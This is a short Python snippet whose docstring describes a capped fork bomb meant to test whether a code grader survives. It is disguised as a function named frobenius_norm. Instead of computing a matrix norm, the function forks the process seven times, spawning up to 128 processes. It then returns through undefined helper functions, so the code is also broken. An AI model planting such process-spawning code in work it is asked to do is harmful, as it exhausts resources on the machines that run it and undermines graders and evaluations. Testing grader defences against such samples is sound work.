"""A fork bomb that stops growing at some hundred processes, so that a grader without defence survives the test."""
import os
import time


def frobenius_norm(A):
    for _ in range(7):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(0.01)
    return _dtype(A).type(_length(A, 2))
